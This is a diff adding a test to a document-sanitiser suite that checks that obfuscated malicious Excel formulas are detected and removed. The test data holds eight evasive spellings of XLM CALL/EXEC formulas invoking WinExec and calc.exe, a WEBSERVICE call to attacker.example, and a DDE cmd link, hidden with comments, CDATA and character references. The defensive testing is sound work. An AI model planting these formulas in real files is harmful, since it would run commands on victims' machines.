@@ -216,6 +216,53 @@ describe('OOXML rebuild', () => {
     expect(text).toContain('plain text, no formula');
   });
 
+  it('finds a refused formula however it is spelled around markup, references and spaces', async () => {
+    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+    const worksheetType =
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
+    // Each spelling parses to a formula that calls out; a byte-level search for "CALL(" or
+    // "WEBSERVICE(" in the part would miss every one.
+    const spellings = [
+      'CA<!-- split -->LL("kernel32","WinExec","JCJ","calc",0)',
+      'CA<![CDATA[LL]]>("kernel32","WinExec","JCJ","calc",0)',
+      'CA<?pi?>LL("kernel32","WinExec","JCJ","calc",0)',
+      '&#67;ALL("kernel32","WinExec","JCJ","calc",0)',
+      'EXEC&#x28;"calc.exe")',
+      'EXEC\u00a0("calc.exe")',
+      '_xlfn.WEBSERVICE\u2003("http://attacker.example/")',
+      "SUM(1,2)+cmd&#124;'/c calc'!A0",
+    ];
+    const input = await buildOpcPackage(
+      [
+        {
+          name: 'xl/workbook.xml',
+          contentType: OOXML_MAIN_TYPES.xlsx,
+          data: `<workbook xmlns="${S}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${spellings.map((_, i) => `<sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</sheets></workbook>`,
+          relationships: spellings.map((_, i) => ({
+            id: `rId${i + 1}`,
+            type: RELATIONSHIP_TYPES.worksheet,
+            target: `worksheets/sheet${i + 1}.xml`,
+          })),
+        },
+        ...spellings.map((formula, i) => ({
+          name: `xl/worksheets/sheet${i + 1}.xml`,
+          contentType: worksheetType,
+          data: `<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1"><f>SUM(A2:A3)</f><v>0</v></c><c r="B1"><f>${formula}</f><v>1</v></c></row></sheetData></worksheet>`,
+        })),
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
+    );
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
+    expect(findingsOf(outcome)).toEqual({
+      'xlm-macro': 6,
+      'external-relationship': 1,
+      'dde-link': 1,
+    });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toMatch(/CALL|EXEC|WEBSERVICE|calc|&#/);
+    expect(text.match(/<f>SUM\(A2:A3\)<\/f>/g)).toHaveLength(spellings.length);
+  });
+
   describe('sheet positions after a macro sheet goes', () => {
     const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
     const R_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
